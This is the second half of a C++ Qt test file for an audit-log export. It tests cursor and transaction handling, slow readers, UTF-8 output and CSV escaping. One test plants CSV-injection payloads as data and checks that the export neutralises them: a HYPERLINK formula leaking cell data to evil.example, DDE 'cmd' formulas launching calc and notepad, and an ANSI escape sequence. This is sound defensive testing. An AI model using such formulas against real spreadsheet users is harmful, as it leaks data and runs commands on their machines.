    // The export reads through one cursor. Outside a transaction it makes a read-only one and
    // ends it; inside a caller's transaction (the month detacher compares an export within its
    // own work) it leaves that transaction open and usable, and writes the same entries.
    void exportInsideACallersTransactionLeavesItOpen()
    {
        QByteArray alone;
        const AuditExportSummary outside
            = exportTo(&alone, AuditFilter(), AuditExportFormat::JsonLines, 3);
        QVERIFY(!m_reader.inTransactionBlock());
        QVERIFY(m_reader.exec("BEGIN").ok());
        QByteArray within;
        const AuditExportSummary inside
            = exportTo(&within, AuditFilter(), AuditExportFormat::JsonLines, 3);
        QVERIFY(m_reader.inTransactionBlock());
        QVERIFY2(m_reader.exec("SELECT 1").ok(), "the caller's transaction still works");
        // The cursor is closed: a second export in the same transaction can make it again.
        QByteArray again;
        exportTo(&again, AuditFilter(), AuditExportFormat::JsonLines, 1000);
        QVERIFY(m_reader.exec("ROLLBACK").ok());
        QCOMPARE(inside.rows, outside.rows);
        QVERIFY(inside.rows > 3);
        QCOMPARE(inside.firstId, outside.firstId);
        QCOMPARE(inside.lastId, outside.lastId);
        // Every entry line the same, byte for byte (the last line is the head record, which
        // names the export's own time).
        const auto entries = [](const QByteArray &bytes) {
            QList<QByteArray> lines = bytes.split('\n');
            while (!lines.isEmpty() && lines.last().isEmpty())
                lines.removeLast();
            lines.removeLast();
            return lines;
        };
        QCOMPARE(entries(within), entries(alone));
        QCOMPARE(entries(again), entries(alone));
        QCOMPARE(entries(alone).size(), qsizetype(outside.rows));
    }

    // A failed export inside a caller's transaction leaves it usable: a write that fails, and
    // a cursor of the export's name that the caller already holds. Before, the first left the
    // cursor open, so the next export aborted the caller's transaction ("cursor already
    // exists").
    void failedExportInsideACallersTransactionLeavesItUsable()
    {
        QVERIFY(m_reader.exec("BEGIN").ok());
        QByteArray nothing;
        QBuffer readOnly(&nothing);
        readOnly.open(QIODevice::ReadOnly); // every write fails
        auto failed = exportAudit(m_reader, AuditFilter(), AuditExportFormat::JsonLines, &readOnly);
        QVERIFY(!failed);
        QVERIFY(failed.error().message().contains(QStringLiteral("Cannot write the export")));
        QVERIFY(m_reader.inTransactionBlock());
        QByteArray bytes;
        QCOMPARE(exportTo(&bytes, AuditFilter(), AuditExportFormat::JsonLines, 500).rows,
                 q(m_admin, "SELECT count(*) FROM redrive.audit_log").bigInt(0, 0).value_or(-1));
        QVERIFY(m_reader.exec("DECLARE redrive_audit_export CURSOR FOR SELECT 1").ok());
        QByteArray none;
        QBuffer buffer(&none);
        buffer.open(QIODevice::WriteOnly);
        auto refused = exportAudit(m_reader, AuditFilter(), AuditExportFormat::JsonLines, &buffer);
        QVERIFY(!refused);
        QVERIFY2(m_reader.exec("FETCH 1 FROM redrive_audit_export").ok(),
                 "the caller's transaction and its own cursor are still there");
        QVERIFY(m_reader.exec("ROLLBACK").ok());
    }

    // The export's transaction waits while the output is slow to take a page (a pipe to a slow
    // reader). A login's idle_in_transaction_session_timeout ended the session mid-export; the
    // export turns it off for its own transaction, as pg_dump does.
    void aSlowReaderDoesNotEndTheExport()
    {
        class SlowBuffer : public QBuffer
        {
        public:
            using QBuffer::QBuffer;

        protected:
            qint64 writeData(const char *data, qint64 size) override
            {
                if (++m_writes == 2)
                    QThread::msleep(700); // longer than the timeout below
                return QBuffer::writeData(data, size);
            }

        private:
            std::atomic<int> m_writes { 0 };
        };
        QVERIFY(m_reader.exec("SET idle_in_transaction_session_timeout = '300ms'").ok());
        QByteArray bytes;
        SlowBuffer slow(&bytes);
        slow.open(QIODevice::WriteOnly);
        auto summary
            = exportAudit(m_reader, AuditFilter(), AuditExportFormat::JsonLines, &slow, 200);
        QVERIFY2(summary, summary ? "" : qPrintable(summary.error().summary()));
        QCOMPARE(summary->rows,
                 q(m_admin, "SELECT count(*) FROM redrive.audit_log").bigInt(0, 0).value_or(-1));
        QVERIFY(m_reader.exec("RESET idle_in_transaction_session_timeout").ok());
    }

    // Every connection asks for UTF-8, over the login's own setting: an export of "café" by a
    // login set to LATIN1 wrote the byte E9, which is not UTF-8 and not what is stored.
    void exportsAreUtf8WhateverTheLoginsEncoding()
    {
        const QString carol
            = m_db->createLogin(QStringLiteral("carol_exp"), { QStringLiteral("redrive_support") });
        q(m_admin, "ALTER ROLE " + carol.toUtf8() + " SET client_encoding = 'LATIN1'");
        PgConnection latin = as(carol);
        q(latin, "SELECT redrive.add_note(gen_random_uuid(), 'dead_letter', '1', $1, 'tester')",
          QueryParams().addText(QStringLiteral("caf\u00e9 latin")));
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        AuditFilter mine;
        mine.actor = carol;
        auto summary = exportAudit(latin, mine, AuditExportFormat::JsonLines, &buffer);
        QVERIFY(summary);
        QCOMPARE(summary->rows, qint64(1));
        QVERIFY2(buffer.data().contains("\"caf\xc3\xa9 latin\""), buffer.data().constData());
    }

    void emptyLogHasNoHead()
    {
        test::TestDatabase empty(QStringLiteral("audit_export_empty"));
        PgConnection c = test::TestDatabase::connectWith(empty.consoleSettings());
        QByteArray bytes;
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::WriteOnly);
        auto summary = exportAudit(c, AuditFilter(), AuditExportFormat::JsonLines, &buffer);
        QVERIFY(summary.ok());
        QCOMPARE(summary->rows, qint64(0));
        QVERIFY(!summary->head.isValid());
        const QJsonObject trailer = QJsonDocument::fromJson(bytes).object();
        QVERIFY(trailer.value(QStringLiteral("chain_head")).isNull());
    }

    // An audit entry written to open a spreadsheet's formulas (OWASP "CSV Injection") and to
    // colour a terminal: the CSV line holds each text cell with a leading "'" and the ESC as
    // U+241B, the id as a number; JSON Lines keeps the values as stored.
    void csvNeutralisesFormulasAndControls()
    {
        const qint64 id
            = q(m_admin,
                "INSERT INTO redrive.audit_log (action, targets, reason, ticket, before, after,"
                " action_id, os_user) VALUES ('note',"
                " '[{\"type\": \"compensation\", \"id\": 987654}]',"
                " '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")',"
                " '+1+cmd|'' /C calc''!A0', '{\"k\": \"-2+3\"}', '\"@SUM(1+1)\"',"
                " gen_random_uuid(), E'=cmd|'' /C notepad''!A0\\x1b[31m') RETURNING id")
                  .bigInt(0, 0)
                  .value_or(0);
        QVERIFY(id > 0);
        const ResultSet row
            = q(m_admin,
                "SELECT to_char(at AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"'),"
                " db_user, action_id, encode(prev_hash, 'hex'),"
                " encode(hash, 'hex') FROM redrive.audit_log WHERE id = $1",
                QueryParams().addBigInt(id));
        AuditFilter filter;
        filter.targetType = QStringLiteral("compensation");
        filter.targetId = QStringLiteral("987654");
        QByteArray bytes;
        exportTo(&bytes, filter, AuditExportFormat::Csv);
        const QList<QByteArray> lines = bytes.split('\n');
        QCOMPARE(lines.size(), 3); // header, the entry, and nothing after the last CRLF
        const QByteArray entry = lines.at(1);
        const QByteArray rest = "'=cmd|' /C notepad'!A0\xe2\x90\x9b[31m,note,"
                                "\"[{\"\"id\"\": 987654, \"\"type\"\": \"\"compensation\"\"}]\","
                                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","
                                "'+1+cmd|' /C calc'!A0,"
                                "\"{\"\"k\"\": \"\"-2+3\"\"}\","
                                "\"\"\"@SUM(1+1)\"\"\","
            + row.text(0, 2).toUtf8() + ",";
        QCOMPARE(entry,
                 QByteArray::number(id) + ',' + row.text(0, 0).toUtf8() + ','
                     + row.text(0, 1).toUtf8() + ",," + rest + "{}," + row.text(0, 3).toUtf8() + ','
                     + row.text(0, 4).toUtf8() + '\r');
        // JSON Lines keeps them as stored, escaped.
        QByteArray jsonl;
        exportTo(&jsonl, filter, AuditExportFormat::JsonLines);
        QVERIFY(jsonl.contains("\"os_user\":\"=cmd|' /C notepad'!A0\\u001b[31m\""));
        QVERIFY(jsonl.contains("\"ticket\":\"+1+cmd|' /C calc'!A0\""));
    }
};

QTEST_GUILESS_MAIN(TestAuditExport)
#include "tst_audit_export.moc"
